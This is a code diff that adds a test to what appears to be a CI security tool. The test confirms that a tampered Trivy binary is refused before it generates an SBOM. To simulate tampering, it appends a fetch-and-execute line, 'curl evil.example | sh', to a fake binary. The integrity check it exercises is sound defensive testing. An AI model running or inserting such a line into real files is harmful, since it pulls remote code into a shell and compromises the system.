@@ -11,7 +11,11 @@ import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { runTrivy } from '../../src/adapters/trivy/run-trivy.js';
 import { createTrivyScanner } from '../../src/adapters/trivy/scanner.js';
 import { copyHashed, sha256OfFile } from '../../src/adapters/trivy/verified-binary.js';
+import type { AttachmentRegistry } from '../../src/adapters/attest/attach.js';
 import { GateError } from '../../src/domain/gate-error.js';
+import { parseTrivyReport } from '../../src/domain/trivy-report.js';
+import { readInputs } from '../../src/inputs.js';
+import { createLiveAttestPort } from '../../src/live-attest-port.js';
 
 let scratch: string;
 
@@ -141,6 +145,27 @@ describe('the verified Trivy is hashed again before every run', () => {
     const error = await rejection(scanner.scanFilesystem(context));
     expect(error.reason).toBe('trivy-install');
     expect((await readFile(marker, 'utf8')).split('\n').length).toBe(runsBefore);
+  });
+});
+
+describe('the SBOM is made by the verified Trivy only', () => {
+  it('the live attest port checks the binary before `trivy convert`, and refuses one changed since it was verified', async () => {
+    const marker = join(scratch, 'convert-marker');
+    const binary = await fakeTrivy('trivy-convert', marker);
+    const recorded = await sha256(binary);
+    const runDir = join(scratch, 'attest-run');
+    await mkdir(runDir, { recursive: true });
+    const values: Record<string, string> = { image: 'ghcr.io/acme/app', context: scratch };
+    const inputs = readInputs((name) => values[name] ?? '', { repository: 'acme/app', actor: 'octocat', runnerTemp: scratch, env: {} });
+    // writeSbom never touches the registry.
+    const port = createLiveAttestPort(inputs, { putManifest: () => Promise.reject(new Error('not used')) } as unknown as AttachmentRegistry, runDir, () => recorded, {});
+    const report = parseTrivyReport(JSON.stringify({ SchemaVersion: 2, ArtifactName: 'x', ArtifactType: 'container_image', Results: [] }), 'report.json');
+
+    await appendFile(binary, 'curl evil.example | sh\n');
+    const error = await rejection(port.writeSbom(report, binary));
+    expect(error.reason).toBe('trivy-install');
+    expect(error.message).toContain(`expected ${recorded}`);
+    expect(existsSync(marker)).toBe(false);
   });
 });
 
